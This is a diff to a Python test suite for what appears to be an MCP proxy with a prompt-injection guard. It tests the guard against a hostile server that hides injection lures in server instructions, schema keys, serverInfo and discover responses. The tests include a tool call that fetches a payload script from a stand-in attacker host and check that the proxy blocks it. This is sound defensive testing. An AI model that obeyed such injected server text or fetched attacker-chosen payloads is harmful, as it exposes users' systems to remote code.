@@ -47,6 +47,10 @@ REFUSED = [
 
 
 class ServerMessages(unittest.TestCase):
+    # What the server's text carries the injection in, and how the session
+    # opens (`server/discover`: 2026-07-28 clients over stdio).
+    LURES = (("1", "initialize"), ("schema", "initialize"), ("schema", "server/discover"))
+
     def setUp(self) -> None:
         self.dir = Path(tempfile.mkdtemp(prefix="toolvet-mcp-server-"))
         self.calls = self.dir / "calls.jsonl"
@@ -97,26 +101,36 @@ class ServerMessages(unittest.TestCase):
 name = "injection"
 plugin = "{PLUGINS}/injection_guard.wasm"
 """)
-        p = self.proxy({"HOSTILE_LURE": "1"})
-        p.send({"jsonrpc": "2.0", "id": "init", "method": "initialize", "params": {
-            "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "raw", "version": "1"}}})
-        init = p.until(lambda m: m.get("id") == "init")[-1]
-        self.assertNotIn("instructions", init["result"])
-        self.assertEqual(init["result"]["serverInfo"], {"name": "hostile", "version": "1"})
-        p.send({"jsonrpc": "2.0", "method": "notifications/initialized"})
-        p.send({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}})
-        listed = p.until(lambda m: m.get("id") == 1)[-1]
-        names = [t["name"] for t in listed["result"]["tools"]]
-        self.assertNotIn("lure", names)
-        self.assertIn("fetch", names)
-        self.assertNotIn("attacker", json.dumps(listed))
-        p.send({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
-                "params": {"name": "fetch", "arguments": {"url": "https://files.attacker.test/payload.sh"}}})
-        denied = p.until(lambda m: m.get("id") == 2)[-1]
-        self.assertTrue(denied["result"]["isError"], denied)
-        self.assertIn("injection.content-chosen-destination", denied["result"]["content"][0]["text"])
-        self.assertFalse([c for c in map(json.loads, self.calls.read_text().splitlines()) if c["tool"] == "fetch"])
-        p.close()
+        # Review s29 G2: also in a schema's keys and `type` values, in
+        # `serverInfo`, and in `server/discover` (2026-07-28 clients).
+        for lure, opening in self.LURES:
+            with self.subTest(lure=lure, opening=opening):
+                self.calls.write_text("")
+                p = self.proxy({"HOSTILE_LURE": lure})
+                p.send({"jsonrpc": "2.0", "id": "init", "method": opening, "params": {
+                    "protocolVersion": "2025-06-18", "capabilities": {},
+                    "clientInfo": {"name": "raw", "version": "1"}}})
+                init = p.until(lambda m: m.get("id") == "init")[-1]
+                self.assertNotIn("instructions", init["result"])
+                self.assertNotIn("tasks", init["result"]["capabilities"])
+                self.assertNotIn("attacker", json.dumps(init))
+                self.assertEqual(init["result"]["serverInfo"]["version"], "1" if lure == "1" else "0")
+                p.send({"jsonrpc": "2.0", "method": "notifications/initialized"})
+                p.send({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}})
+                listed = p.until(lambda m: m.get("id") == 1)[-1]
+                names = [t["name"] for t in listed["result"]["tools"]]
+                self.assertNotIn("lure", names)
+                self.assertNotIn("lure2", names)
+                self.assertIn("fetch", names)
+                self.assertNotIn("attacker", json.dumps(listed))
+                p.send({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
+                        "params": {"name": "fetch", "arguments": {"url": "https://files.attacker.test/payload.sh"}}})
+                denied = p.until(lambda m: m.get("id") == 2)[-1]
+                self.assertTrue(denied["result"]["isError"], denied)
+                self.assertIn("injection.content-chosen-destination", denied["result"]["content"][0]["text"])
+                self.assertFalse([c for c in map(json.loads, self.calls.read_text().splitlines())
+                                  if c["tool"] == "fetch"])
+                p.close()
 
     def test_answers_a_client_could_read_otherwise_are_errors_for_their_id(self):
         p = self.proxy()
@@ -188,6 +202,9 @@ plugin = "{PLUGINS}/injection_guard.wasm"
 class HttpServerMessages(ServerMessages):
     """The same over Streamable HTTP: the proxy in front of hostile_server.py
     served over HTTP, driven with raw POSTs."""
+
+    # A Streamable HTTP session opens with `initialize` (the session id).
+    LURES = (("1", "initialize"), ("schema", "initialize"))
 
     def proxy(self, env: dict | None = None):
         port = free_port()
